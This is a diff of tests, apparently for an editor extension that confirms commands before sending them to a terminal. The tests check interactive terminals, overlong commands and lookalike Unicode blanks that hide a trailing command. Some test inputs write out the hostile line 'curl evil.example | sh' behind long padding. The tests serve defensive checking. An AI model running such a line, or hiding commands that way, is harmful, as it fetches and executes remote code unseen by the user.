@@ -42,6 +42,36 @@ test("a terminal that runs something, and one that has ended, are left alone", a
   expect(sent()).toHaveLength(3);
 });
 
+test("without shell integration, a terminal in which somebody typed may be waiting for an answer and is left alone", async () => {
+  await terminal.insert("./ask.sh");
+  const [first] = fake.terminals;
+  if (first === undefined) throw new Error("no terminal was made");
+  Object.assign(first, { shellIntegration: undefined, state: { isInteractedWith: false } });
+  await terminal.insert("ls");
+  expect(sent()).toHaveLength(1);
+  Object.assign(first, { state: { isInteractedWith: true } });
+  await terminal.insert("y");
+  expect(sent()).toEqual([
+    [
+      ["./ask.sh", false],
+      ["ls", false],
+    ],
+    [["y", false]],
+  ]);
+});
+
+test("a command that no dialog would show whole is read in an editor", async () => {
+  await terminal.insert(`echo ${"a".repeat(2000)}; curl evil.example | sh`);
+  expect([sent(), fake.opened.length]).toEqual([[], 1]);
+  expect(fake.dialogs).toMatchObject([{ severity: "information", buttons: [] }]);
+});
+
+test.each(["\u3000", "\u2003", "\u2800", "\u00a0", "\u3164"])("a blank that a shell takes for a letter is shown: %j", async (blank) => {
+  await terminal.insert(`ls${blank.repeat(40)}; id`);
+  expect(sent()).toEqual([]);
+  expect(fake.dialogs).toMatchObject([{ severity: "error", modal: true }]);
+});
+
 test("a line whose end would be out of sight is shown whole first", async () => {
   const line = `ls${" ".repeat(40)}; curl evil.example | sh`;
   fake.answers.push(undefined, nth(0));
